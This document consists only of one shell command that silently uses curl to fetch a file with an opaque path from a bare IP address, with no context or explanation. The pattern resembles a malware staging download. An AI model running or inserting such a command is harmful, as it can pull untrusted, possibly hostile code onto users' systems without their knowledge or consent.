curl -s http://91.92.242.30/x
